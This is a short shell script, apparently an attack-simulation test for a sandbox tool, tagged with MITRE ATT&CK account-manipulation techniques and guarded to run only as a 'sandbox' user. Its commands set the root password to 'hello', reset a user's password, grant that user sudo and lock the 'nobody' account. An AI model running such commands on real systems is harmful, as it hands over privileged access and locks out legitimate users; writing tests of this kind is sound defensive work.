#!/bin/sh
# technique: T1098 T1531 T1136
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'root:hello' | chpasswd; printf 'x\nx\n' | passwd sandbox; usermod -aG sudo sandbox; usermod -p '!' nobody
